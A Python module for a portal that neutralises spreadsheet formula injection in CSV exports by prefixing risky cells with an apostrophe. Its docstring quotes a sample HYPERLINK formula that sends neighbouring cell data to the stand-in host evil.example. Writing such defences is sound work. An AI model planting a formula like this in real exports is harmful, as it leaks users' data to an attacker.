"""CSV the portal writes, safe to open in a spreadsheet.

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return as a formula: an organisation named
``=HYPERLINK("http://evil.example/?d="&A2&B2,"Mở hồ sơ")`` would become, in an officer's export,
a link that sends the neighbouring cells away. Every CSV (the admin's export of dossiers,
``manage.py dossier_stats``, the public statistics, the catalogue's export) is written through
``writer`` or ``dict_writer``, which put an apostrophe before such a text (the spreadsheets' own
mark for "text, not a formula"; OWASP's advice). Numbers are written as they are: a negative
count is a number, not a formula. A CSV the portal reads back (the catalogue's import) takes the
apostrophe off again with ``restore_cell``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value``, or ``'value`` if it is a text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows pass through ``safe_cell``."""

    def __init__(self, stream, **options):
        self.rows = csv.writer(stream, **options)

    def writerow(self, row: Iterable):
        return self.rows.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose values pass through ``safe_cell``."""

    def writerow(self, rowdict: dict):
        return super().writerow({name: safe_cell(value) for name, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[dict]) -> None:
        for row in rowdicts:
            self.writerow(row)


def writer(stream, **options) -> SafeWriter:
    return SafeWriter(stream, **options)


def dict_writer(stream, fieldnames, **options) -> SafeDictWriter:
    return SafeDictWriter(stream, fieldnames, **options)


def restore_cell(value):
    """The text ``safe_cell`` neutralised, as it was (for a CSV the portal reads back)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
